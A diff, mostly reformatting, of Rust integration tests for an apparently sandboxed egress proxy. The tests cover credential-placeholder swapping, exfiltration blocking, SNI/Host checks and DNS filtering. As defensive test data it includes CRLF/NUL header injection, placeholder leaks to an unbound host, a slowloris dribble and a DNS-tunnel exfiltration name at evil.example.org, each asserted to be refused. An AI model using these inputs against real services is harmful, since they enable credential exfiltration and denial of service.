@@ -38,7 +38,10 @@ async fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
     let ph = fx.token_ph().to_owned();
     let bearer = format!("Authorization: Bearer {ph}");
 
-    for (version_flag, want) in [("--http1.1", Version::HTTP_11), ("--http2", Version::HTTP_2)] {
+    for (version_flag, want) in [
+        ("--http1.1", Version::HTTP_11),
+        ("--http2", Version::HTTP_2),
+    ] {
         // chunk=5: the echoed value straddles many frame boundaries.
         let out = fx.curl(&[
             version_flag,
@@ -52,15 +55,27 @@ async fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
         assert_eq!(out.code, 0, "{version_flag}: {}", out.stderr);
         let text = out.text();
         assert!(text.contains(" 200"), "{text}");
-        assert!(!contains(&out.stdout, TOKEN_VALUE.as_bytes()), "real value reached the client: {text}");
-        assert!(text.contains(&format!("x-echo-authorization: Bearer {ph}")), "{text}");
-        assert!(text.contains(&format!("authorization: Bearer {ph}")), "echoed body: {text}");
+        assert!(
+            !contains(&out.stdout, TOKEN_VALUE.as_bytes()),
+            "real value reached the client: {text}"
+        );
+        assert!(
+            text.contains(&format!("x-echo-authorization: Bearer {ph}")),
+            "{text}"
+        );
+        assert!(
+            text.contains(&format!("authorization: Bearer {ph}")),
+            "echoed body: {text}"
+        );
         if want == Version::HTTP_2 {
             assert!(text.contains("HTTP/2 200"), "downstream h2: {text}");
         }
         let seen = fx.upstream.seen();
         let last = seen.last().unwrap();
-        assert_eq!(last.header("authorization"), Some(format!("Bearer {TOKEN_VALUE}").as_bytes()));
+        assert_eq!(
+            last.header("authorization"),
+            Some(format!("Bearer {TOKEN_VALUE}").as_bytes())
+        );
         assert_eq!(last.header("accept-encoding"), Some(&b"identity"[..]));
         assert_eq!(last.authority, "api.test.example");
         // The placeholder in the body is not the declared place: it goes out as it is.
@@ -68,7 +83,12 @@ async fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
         assert!(!contains(&last.body, TOKEN_VALUE.as_bytes()));
     }
     // The proxy chose h2 upstream (the upstream offers it) at least once.
-    assert!(fx.upstream.seen().iter().any(|s| s.version == Version::HTTP_2));
+    assert!(
+        fx.upstream
+            .seen()
+            .iter()
+            .any(|s| s.version == Version::HTTP_2)
+    );
 
     // Basic: the placeholder inside the base64 is replaced; the echo comes back re-encoded
     // with the placeholder.
@@ -82,14 +102,24 @@ async fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
     let last = fx.upstream.seen().last().unwrap().clone();
     let want = format!("Basic {}", B64.encode(format!("alice:{BASIC_VALUE}")));
     assert_eq!(last.header("authorization"), Some(want.as_bytes()));
-    assert!(!contains(&basic.stdout, want.as_bytes()), "{}", basic.text());
+    assert!(
+        !contains(&basic.stdout, want.as_bytes()),
+        "{}",
+        basic.text()
+    );
     assert!(!contains(&basic.stdout, BASIC_VALUE.as_bytes()));
 
     // Query parameter: swapped (percent-encoded) in `key` only; scrubbed in the echo.
-    let q = fx.curl(&[&format!("https://api.test.example/echo?key={}&other=1", fx.ph["QUERY_KEY"])]);
+    let q = fx.curl(&[&format!(
+        "https://api.test.example/echo?key={}&other=1",
+        fx.ph["QUERY_KEY"]
+    )]);
     assert_eq!(q.code, 0, "{}", q.stderr);
     let last = fx.upstream.seen().last().unwrap().clone();
-    assert_eq!(last.path_and_query, "/echo?key=qk-REAL%2Fquery%2Bkey%2042&other=1");
+    assert_eq!(
+        last.path_and_query,
+        "/echo?key=qk-REAL%2Fquery%2Bkey%2042&other=1"
+    );
     assert!(!contains(&q.stdout, b"qk-REAL"), "{}", q.text());
 
     // A placeholder in another header to the bound host: passed as is, never swapped.
@@ -97,28 +127,63 @@ async fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
     assert_eq!(other_header.code, 0);
     let last = fx.upstream.seen().last().unwrap().clone();
     assert_eq!(last.header("x-token"), Some(ph.as_bytes()));
-    assert!(!fx.upstream.seen().last().unwrap().all_bytes().windows(TOKEN_VALUE.len()).any(|w| w == TOKEN_VALUE.as_bytes()));
+    assert!(
+        !fx.upstream
+            .seen()
+            .last()
+            .unwrap()
+            .all_bytes()
+            .windows(TOKEN_VALUE.len())
+            .any(|w| w == TOKEN_VALUE.as_bytes())
+    );
 
     // A compressed response to a request that carried a credential is refused.
-    let gz = fx.curl(&["-H", &bearer, "-o", "/dev/null", "-w", "%{http_code}", "https://api.test.example/gzip"]);
+    let gz = fx.curl(&[
+        "-H",
+        &bearer,
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "https://api.test.example/gzip",
+    ]);
     assert_eq!(gz.text(), "502");
 
     let events = fx.audit().await;
-    assert!(events.iter().any(|e| e.action == "egress.connect" && e.target == "api.test.example:443"));
+    assert!(
+        events
+            .iter()
+            .any(|e| e.action == "egress.connect" && e.target == "api.test.example:443")
+    );
     let req = events
         .iter()
         .find(|e| e.action == "egress.request" && e.detail.contains("credentials=API_TOKEN"))
         .expect("request audited with the credential name");
-    assert!(req.detail.contains("status=200") && req.detail.contains("bytes_down="), "{}", req.detail);
+    assert!(
+        req.detail.contains("status=200") && req.detail.contains("bytes_down="),
+        "{}",
+        req.detail
+    );
     let qev = events
         .iter()
         .find(|e| e.action == "egress.request" && e.detail.contains("credentials=QUERY_KEY"))
         .unwrap();
-    assert!(qev.detail.contains("path=\"/echo?key=&other=\""), "query values kept: {}", qev.detail);
-    assert!(denied_with(&events, "api.test.example:443", "encoded response"));
+    assert!(
+        qev.detail.contains("path=\"/echo?key=&other=\""),
+        "query values kept: {}",
+        qev.detail
+    );
+    assert!(denied_with(
+        &events,
+        "api.test.example:443",
+        "encoded response"
+    ));
     for e in &events {
         for secret in [TOKEN_VALUE, BASIC_VALUE, "qk-REAL"] {
-            assert!(!e.detail.contains(secret) && !e.target.contains(secret), "secret in audit: {e:?}");
+            assert!(
+                !e.detail.contains(secret) && !e.target.contains(secret),
+                "secret in audit: {e:?}"
+            );
         }
     }
     // The client side never saw a real value, anywhere.
@@ -142,13 +207,40 @@ async fn placeholder_to_an_unbound_host_is_refused_and_nothing_reaches_it() {
         fx.curl(&all).text()
     };
     let other = "https://other.test.example";
-    assert_eq!(code(&["-H", &format!("Authorization: Bearer {ph}"), &format!("{other}/")]), "403");
-    assert_eq!(code(&["-H", &format!("X-Whatever: x{ph}y"), &format!("{other}/")]), "403");
+    assert_eq!(
+        code(&[
+            "-H",
+            &format!("Authorization: Bearer {ph}"),
+            &format!("{other}/")
+        ]),
+        "403"
+    );
+    assert_eq!(
+        code(&["-H", &format!("X-Whatever: x{ph}y"), &format!("{other}/")]),
+        "403"
+    );
     assert_eq!(code(&[&format!("{other}/upload/{ph}")]), "403");
     assert_eq!(code(&[&format!("{other}/?q={ph}")]), "403");
-    assert_eq!(code(&["--data-binary", &format!("leak={ph}"), &format!("{other}/")]), "403");
-    assert_eq!(code(&["--http2", "-H", &format!("Authorization: Bearer {ph}"), &format!("{other}/")]), "403");
-    assert!(fx.upstream.seen().iter().all(|s| s.authority != "other.test.example"), "something reached other");
+    assert_eq!(
+        code(&["--data-binary", &format!("leak={ph}"), &format!("{other}/")]),
+        "403"
+    );
+    assert_eq!(
+        code(&[
+            "--http2",
+            "-H",
+            &format!("Authorization: Bearer {ph}"),
+            &format!("{other}/")
+        ]),
+        "403"
+    );
+    assert!(
+        fx.upstream
+            .seen()
+            .iter()
+            .all(|s| s.authority != "other.test.example"),
+        "something reached other"
+    );
 
     // A large streamed body (length unknown to the proxy in advance): cut before the
     // placeholder's bytes leave.
@@ -157,9 +249,18 @@ async fn placeholder_to_an_unbound_host_is_refused_and_nothing_reaches_it() {
     data.extend_from_slice(ph.as_bytes());
     data.extend_from_slice(&vec![b'z'; 1 << 20]);
     std::fs::write(&big, &data).unwrap();
-    let streamed = code(&["-H", "Transfer-Encoding: chunked", "--data-binary", &format!("@{}", big.display()), &format!("{other}/sum")]);
+    let streamed = code(&[
+        "-H",
+        "Transfer-Encoding: chunked",
+        "--data-binary",
+        &format!("@{}", big.display()),
+        &format!("{other}/sum"),
+    ]);
     assert_ne!(streamed, "200", "streamed exfiltration went through");
-    assert!(!fx.upstream.ever_saw(ph.as_bytes()), "placeholder bytes reached the upstream");
+    assert!(
+        !fx.upstream.ever_saw(ph.as_bytes()),
+        "placeholder bytes reached the upstream"
+    );
 
     // Without the placeholder, the same host works.
     assert_eq!(code(&[&format!("{other}/")]), "200");
@@ -171,7 +272,10 @@ async fn placeholder_to_an_unbound_host_is_refused_and_nothing_reaches_it() {
         .collect();
     assert!(exfil.len() >= 7, "{exfil:#?}");
     for place in ["place=header", "place=path", "place=query", "place=body"] {
-        assert!(exfil.iter().any(|e| e.detail.contains(place)), "no {place} in {exfil:#?}");
+        assert!(
+            exfil.iter().any(|e| e.detail.contains(place)),
+            "no {place} in {exfil:#?}"
+        );
     }
     assert!(exfil.iter().all(|e| e.target == "other.test.example:443"));
 }
@@ -187,13 +291,22 @@ async fn destinations_are_checked_before_anything_is_sent() {
         out.text()
     };
     assert_eq!(connect_code("https://notlisted.test.example/"), "403");
-    assert_eq!(connect_code(&format!("https://{}/", fx.net.upstream_ip())), "403");
+    assert_eq!(
+        connect_code(&format!("https://{}/", fx.net.upstream_ip())),
+        "403"
+    );
     assert_eq!(connect_code("https://api.test.example:8443/"), "403");
     assert_eq!(connect_code("https://loop.test.example/"), "403");
     assert_eq!(connect_code("https://meta.test.example/"), "403");
     assert_eq!(connect_code("https://pool.test.example/"), "403");
     // Plain HTTP: refused for a host not allowed over HTTP.
-    let plain = fx.curl(&["-o", "/dev/null", "-w", "%{http_code}", "http://api.test.example/"]);
+    let plain = fx.curl(&[
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "http://api.test.example/",
+    ]);
     assert_eq!(plain.text(), "403");
 
     // SNI other than the CONNECT host: the handshake is dropped, no certificate minted.
@@ -203,14 +316,24 @@ async fn destinations_are_checked_before_anything_is_sent() {
     let tls = tls_client(s, fx.cacert(), "other.test.example", &[b"http/1.1"]).await;
     assert!(tls.is_err(), "SNI mismatch accepted");
     let after = fx.shared.leaf_cache_stats();
-    assert_eq!(before.misses, after.misses, "a leaf was minted for an unchecked SNI");
+    assert_eq!(
+        before.misses, after.misses,
+        "a leaf was minted for an unchecked SNI"
+    );
     // The same through curl (--connect-to: CONNECT other, SNI api).
-    let ct = fx.curl(&["--connect-to", "api.test.example:443:other.test.example:443", "https://api.test.example/"]);
+    let ct = fx.curl(&[
+        "--connect-to",
+        "api.test.example:443:other.test.example:443",
+        "https://api.test.example/",
+    ]);
     assert_ne!(ct.code, 0, "curl --connect-to got through");
 
     // Attribution: a connection from any address other than the sandbox's is refused.
     let from_host = in_netns_host_connect(fx.proxy.local_addr()).await;
-    assert!(from_host.is_empty() || !from_host.starts_with("HTTP/1.1 200"), "{from_host}");
+    assert!(
+        from_host.is_empty() || !from_host.starts_with("HTTP/1.1 200"),
+        "{from_host}"
+    );
 
     // Nothing of this reached the upstream.
     assert!(fx.upstream.seen().is_empty(), "{:?}", fx.upstream.seen());
@@ -228,7 +351,10 @@ async fn destinations_are_checked_before_anything_is_sent() {
         ("other.test.example:443", "SNI differs"),
         ("", "not from the sandbox's address"),
     ] {
-        assert!(denied_with(&events, target, reason), "no denial {target} {reason}: {events:#?}");
+        assert!(
+            denied_with(&events, target, reason),
+            "no denial {target} {reason}: {events:#?}"
+        );
     }
 }
 
@@ -256,47 +382,123 @@ async fn every_inner_request_is_checked() {
     };
     let api = "https://api.test.example/";
     // Host / :authority other than the SNI.
-    assert_eq!(status(&["--http1.1", "-H", "Host: other.test.example", api]), "403");
-    assert_eq!(status(&["--http2", "-H", "Host: other.test.example", api]), "403");
+    assert_eq!(
+        status(&["--http1.1", "-H", "Host: other.test.example", api]),
+        "403"
+    );
+    assert_eq!(
+        status(&["--http2", "-H", "Host: other.test.example", api]),
+        "403"
+    );
     // CONNECT and absolute-form inside the tunnel.
     assert_eq!(status(&["--http1.1", "-X", "CONNECT", api]), "403");
-    assert_eq!(status(&["--http1.1", "--request-target", "https://other.test.example/", api]), "403");
+    assert_eq!(
+        status(&[
+            "--http1.1",
+            "--request-target",
+            "https://other.test.example/",
+            api
+        ]),
+        "403"
+    );
     // Oversized headers: 431 inside the tunnel and on the proxy port.
     let huge = format!("X-Big: {}", "a".repeat(100 * 1024));
     let code = status(&["--http1.1", "-H", &huge, api]);
-    assert_eq!(code, "431", "{:#?} {:#?}", fx.audit().await, fx.upstream.seen().len());
-    let outer = fx.curl(&["-o", "/dev/null", "-w", "%{http_connect}", "--proxy-header", &huge, api]);
+    assert_eq!(
+        code,
+        "431",
+        "{:#?} {:#?}",
+        fx.audit().await,
+        fx.upstream.seen().len()
+    );
+    let outer = fx.curl(&[
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_connect}",
+        "--proxy-header",
+        &huge,
+        api,
+    ]);
     assert_eq!(outer.text(), "431", "{}", outer.stderr);
-    let h2_huge = fx.curl(&["--http2", "-o", "/dev/null", "-w", "%{http_code}", "-H", &huge, api]);
+    let h2_huge = fx.curl(&[
+        "--http2",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "-H",
+        &huge,
+        api,
+    ]);
     assert_ne!(h2_huge.text(), "200", "h2 oversized headers accepted");
 
     // Raw HTTP/1.1 over an intercepted tunnel: keep-alive, then another Host on the same
     // connection.
     let mut t = h1_tunnel(&fx, "api.test.example").await;
-    let head = raw_exchange(&mut t, b"GET /one HTTP/1.1\r\nHost: api.test.example\r\n\r\n").await;
+    let head = raw_exchange(
+        &mut t,
+        b"GET /one HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
+    )
+    .await;
     assert!(head.starts_with("HTTP/1.1 200"), "{head}");
     let _ = read_body(&mut t, &head).await;
-    let head = raw_exchange(&mut t, b"GET /two HTTP/1.1\r\nHost: other.test.example\r\n\r\n").await;
+    let head = raw_exchange(
+        &mut t,
+        b"GET /two HTTP/1.1\r\nHost: other.test.example\r\n\r\n",
+    )
+    .await;
     assert!(head.starts_with("HTTP/1.1 403"), "{head}");
     let _ = read_body(&mut t, &head).await;
     // Absolute-form and CRLF/NUL injection on raw connections.
-    let head = raw_exchange(&mut t, b"GET https://other.test.example/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n").await;
+    let head = raw_exchange(
+        &mut t,
+        b"GET https://other.test.example/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
+    )
+    .await;
     assert!(head.starts_with("HTTP/1.1 403"), "{head}");
     let mut t = h1_tunnel(&fx, "api.test.example").await;
-    let head = raw_exchange(&mut t, b"GET /crlf HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\rInjected: b\r\n\r\n").await;
-    assert!(head.starts_with("HTTP/1.1 400") || head.contains("error"), "{head}");
+    let head = raw_exchange(
+        &mut t,
+        b"GET /crlf HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\rInjected: b\r\n\r\n",
+    )
+    .await;
+    assert!(
+        head.starts_with("HTTP/1.1 400") || head.contains("error"),
+        "{head}"
+    );
     let mut t = h1_tunnel(&fx, "api.test.example").await;
-    let head = raw_exchange(&mut t, b"GET /nul HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\0b\r\n\r\n").await;
-    assert!(head.starts_with("HTTP/1.1 400") || head.contains("error"), "{head}");
+    let head = raw_exchange(
+        &mut t,
+        b"GET /nul HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\0b\r\n\r\n",
+    )
+    .await;
+    assert!(
+        head.starts_with("HTTP/1.1 400") || head.contains("error"),
+        "{head}"
+    );
     // CRLF in the CONNECT line itself.
     let (_s, head) = connect_tunnel(&fx, "api.test.example:443\r\nX-Injected: 1").await;
     assert!(!head.starts_with("HTTP/1.1 200"), "{head}");
 
     let seen = fx.upstream.seen();
-    assert_eq!(seen.iter().map(|s| s.path_and_query.as_str()).collect::<Vec<_>>(), ["/one"], "{seen:#?}");
+    assert_eq!(
+        seen.iter()
+            .map(|s| s.path_and_query.as_str())
+            .collect::<Vec<_>>(),
+        ["/one"],
+        "{seen:#?}"
+    );
     let events = fx.audit().await;
-    for reason in ["Host/:authority differs", "CONNECT inside a tunnel", "not origin-form"] {
-        assert!(denied_with(&events, "api.test.example:443", reason), "{reason}: {events:#?}");
+    for reason in [
+        "Host/:authority differs",
+        "CONNECT inside a tunnel",
+        "not origin-form",
+    ] {
+        assert!(
+            denied_with(&events, "api.test.example:443", reason),
+            "{reason}: {events:#?}"
+        );
     }
 }
 
@@ -317,7 +519,12 @@ async fn hundred_megabytes_each_way_byte_exact() {
     std::fs::write(&up, &data).unwrap();
     let want = format!("{N} {}", sha256_hex(&data));
     for v in ["--http1.1", "--http2"] {
-        let out = fx.curl(&[v, "--data-binary", &format!("@{}", up.display()), "https://api.test.example/sum"]);
+        let out = fx.curl(&[
+            v,
+            "--data-binary",
+            &format!("@{}", up.display()),
+            "https://api.test.example/sum",
+        ]);
         assert_eq!(out.code, 0, "{}", out.stderr);
         assert_eq!(out.text(), want, "{v}");
     }
@@ -333,10 +540,16 @@ async fn hundred_megabytes_each_way_byte_exact() {
         &format!("https://api.test.example/big?n={N}"),
     ]);
     assert_eq!(out.code, 0, "{}", out.stderr);
-    eprintln!("100 MB scrubbed download through the proxy (debug build): {:?}", t.elapsed());
+    eprintln!(
+        "100 MB scrubbed download through the proxy (debug build): {:?}",
+        t.elapsed()
+    );
     let got = std::fs::read(&down).unwrap();
     assert_eq!(got.len(), N);
-    assert!(got == egress_support::upstream::pattern(0, N), "download differs");
+    assert!(
+        got == egress_support::upstream::pattern(0, N),
+        "download differs"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
@@ -360,15 +573,29 @@ async fn connection_limit_and_slowloris() {
     assert!(head.starts_with("HTTP/1.1 503"), "past the limit: {head}");
     drop(held);
     tokio::time::sleep(Duration::from_millis(300)).await;
-    let ok = fx.curl(&["-o", "/dev/null", "-w", "%{http_code}", "https://api.test.example/"]);
-    assert_eq!(ok.text(), "200", "after the held connections closed: {}", ok.stderr);
+    let ok = fx.curl(&[
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "https://api.test.example/",
+    ]);
+    assert_eq!(
+        ok.text(),
+        "200",
+        "after the held connections closed: {}",
+        ok.stderr
+    );
 
     // Slowloris: a CONNECT head dribbled byte by byte is cut off at the header timeout (2 s),
     // while a normal client is served meanwhile.
     let mut slow = connect_from(&fx.net.client_ns, fx.proxy.local_addr()).await;
     let started = Instant::now();
     let dribble = tokio::spawn(async move {
-        for b in b"CONNECT api.test.example:443 HTTP/1.1\r\nHost: api.test.example:443\r\nX-Slow: ".iter().chain([b'a'; 200].iter()) {
+        for b in b"CONNECT api.test.example:443 HTTP/1.1\r\nHost: api.test.example:443\r\nX-Slow: "
+            .iter()
+            .chain([b'a'; 200].iter())
+        {
             if slow.write_all(&[*b]).await.is_err() {
                 return started.elapsed();
             }
@@ -377,15 +604,27 @@ async fn connection_limit_and_slowloris() {
         started.elapsed()
     });
     tokio::time::sleep(Duration::from_millis(500)).await;
-    let normal = fx.curl(&["-o", "/dev/null", "-w", "%{http_code}", "https://api.test.example/"]);
+    let normal = fx.curl(&[
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "https://api.test.example/",
+    ]);
     assert_eq!(normal.text(), "200");
     let cut_after = dribble.await.unwrap();
-    assert!(cut_after < Duration::from_secs(8), "slowloris lasted {cut_after:?}");
+    assert!(
+        cut_after < Duration::from_secs(8),
+        "slowloris lasted {cut_after:?}"
+    );
     // The same inside a tunnel: a request head dribbled after the TLS handshake.
     let mut t = h1_tunnel(&fx, "api.test.example").await;
     let started = Instant::now();
     let mut cut = false;
-    for b in b"GET / HTTP/1.1\r\nHost: api.test.example\r\nX-Slow: ".iter().chain([b'a'; 200].iter()) {
+    for b in b"GET / HTTP/1.1\r\nHost: api.test.example\r\nX-Slow: "
+        .iter()
+        .chain([b'a'; 200].iter())
+    {
         if t.write_all(&[*b]).await.is_err() || t.flush().await.is_err() {
             cut = true;
             break;
@@ -396,12 +635,17 @@ async fn connection_limit_and_slowloris() {
     assert!(started.elapsed() < Duration::from_secs(8));
 
     let events = fx.audit().await;
-    assert!(denied_with(&events, "", "too many connections"), "{events:#?}");
+    assert!(
+        denied_with(&events, "", "too many connections"),
+        "{events:#?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
 async fn transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names() {
-    if !require_root("transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names") {
+    if !require_root(
+        "transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names",
+    ) {
         return;
     }
     let fx = Fixture::new(limits()).await;
@@ -421,24 +665,47 @@ async fn transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlist
     let ca = fx.cacert().to_string_lossy().into_owned();
     for v in ["--http1.1", "--http2"] {
         let out = fx.curl_raw(&[
-            "-sS", "--max-time", "20", v, "--cacert", &ca, "--resolve", &resolve,
-            "-H", &format!("Authorization: Bearer {}", fx.token_ph()),
+            "-sS",
+            "--max-time",
+            "20",
+            v,
+            "--cacert",
+            &ca,
+            "--resolve",
+            &resolve,
+            "-H",
+            &format!("Authorization: Bearer {}", fx.token_ph()),
             "https://api.test.example/echo",
         ]);
         assert_eq!(out.code, 0, "{}", out.stderr);
         assert!(!contains(&out.stdout, TOKEN_VALUE.as_bytes()));
         let last = fx.upstream.seen().last().unwrap().clone();
-        assert_eq!(last.header("authorization"), Some(format!("Bearer {TOKEN_VALUE}").as_bytes()));
+        assert_eq!(
+            last.header("authorization"),
+            Some(format!("Bearer {TOKEN_VALUE}").as_bytes())
+        );
     }
     // SNI of a host not on the allowlist: dropped.
     let bad = fx.curl_raw(&[
-        "-sS", "--max-time", "10", "--cacert", &ca, "--resolve", &format!("notlisted.test.example:443:{n1}"),
+        "-sS",
+        "--max-time",
+        "10",
+        "--cacert",
+        &ca,
+        "--resolve",
+        &format!("notlisted.test.example:443:{n1}"),
         "https://notlisted.test.example/",
     ]);
     assert_ne!(bad.code, 0);
     // An allowlisted name that resolves to a forbidden address: dropped.
     let lo = fx.curl_raw(&[
-        "-sS", "--max-time", "10", "--cacert", &ca, "--resolve", &format!("loop.test.example:443:{n1}"),
+        "-sS",
+        "--max-time",
+        "10",
+        "--cacert",
+        &ca,
+        "--resolve",
+        &format!("loop.test.example:443:{n1}"),
         "https://loop.test.example/",
     ]);
     assert_ne!(lo.code, 0);
@@ -446,14 +713,34 @@ async fn transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlist
     // DNS: other names NXDOMAIN for every type; TXT and long labels never forwarded.
     assert_eq!(dns_query(&fx, "evil.example.org", 1).await[3] & 0x0f, 3);
     assert_eq!(dns_query(&fx, "evil.example.org", 16).await[3] & 0x0f, 3);
-    assert_eq!(dns_query(&fx, "api.test.example", 16).await[3] & 0x0f, 5, "TXT refused");
-    let exfil = format!("{}.{}.evil.example.org", "6b6579".repeat(10), "a".repeat(63));
+    assert_eq!(
+        dns_query(&fx, "api.test.example", 16).await[3] & 0x0f,
+        5,
+        "TXT refused"
+    );
+    let exfil = format!(
+        "{}.{}.evil.example.org",
+        "6b6579".repeat(10),
+        "a".repeat(63)
+    );
     assert_eq!(dns_query(&fx, &exfil, 1).await[3] & 0x0f, 3);
 
     let events = fx.audit().await;
-    assert!(events.iter().any(|e| e.action == "egress.connect" && e.detail.contains("kind=transparent")));
-    assert!(denied_with(&events, "notlisted.test.example", "not on the egress allowlist"));
-    assert!(denied_with(&events, "loop.test.example:443", "forbidden address"));
+    assert!(
+        events
+            .iter()
+            .any(|e| e.action == "egress.connect" && e.detail.contains("kind=transparent"))
+    );
+    assert!(denied_with(
+        &events,
+        "notlisted.test.example",
+        "not on the egress allowlist"
+    ));
+    assert!(denied_with(
+        &events,
+        "loop.test.example:443",
+        "forbidden address"
+    ));
     assert!(denied_with(&events, "evil.example.org", "kind=dns"));
 }
 
@@ -468,7 +755,9 @@ async fn dns_query(fx: &Fixture, name: &str, qtype: u16) -> Vec<u8> {
     q.extend_from_slice(&qtype.to_be_bytes());
     q.extend_from_slice(&1u16.to_be_bytes());
     let server = std::net::SocketAddr::from((fx.net.proxy_ip(), 53));
-    let sock = in_netns(&fx.net.client_ns, || std::net::UdpSocket::bind("0.0.0.0:0").unwrap());
+    let sock = in_netns(&fx.net.client_ns, || {
+        std::net::UdpSocket::bind("0.0.0.0:0").unwrap()
+    });
     sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
     sock.send_to(&q, server).unwrap();
     let mut buf = [0u8; 1024];
@@ -493,14 +782,42 @@ async fn ca_is_sealed_in_the_vault_and_leaves_are_cached() {
             gateway::vault::MasterKey::generate().unwrap(),
         );
         assert!(vault.is_err(), "another master key must be refused");
-        fx.store.secret_list().unwrap().into_iter().map(|m| m.name).collect()
+        fx.store
+            .secret_list()
+            .unwrap()
+            .into_iter()
+            .map(|m| m.name)
+            .collect()
     };
-    assert!(names.contains(&gateway::egress::CA_KEY_SECRET.to_owned()), "{names:?}");
+    assert!(
+        names.contains(&gateway::egress::CA_KEY_SECRET.to_owned()),
+        "{names:?}"
+    );
 
     for _ in 0..3 {
-        assert_eq!(fx.curl(&["-o", "/dev/null", "-w", "%{http_code}", "https://api.test.example/"]).text(), "200");
+        assert_eq!(
+            fx.curl(&[
+                "-o",
+                "/dev/null",
+                "-w",
+                "%{http_code}",
+                "https://api.test.example/"
+            ])
+            .text(),
+            "200"
+        );
     }
-    assert_eq!(fx.curl(&["-o", "/dev/null", "-w", "%{http_code}", "https://other.test.example/"]).text(), "200");
+    assert_eq!(
+        fx.curl(&[
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+            "https://other.test.example/"
+        ])
+        .text(),
+        "200"
+    );
     let stats = fx.shared.leaf_cache_stats();
     assert_eq!(stats.misses, 2, "{stats:?}");
     assert_eq!(stats.hits, 2, "{stats:?}");
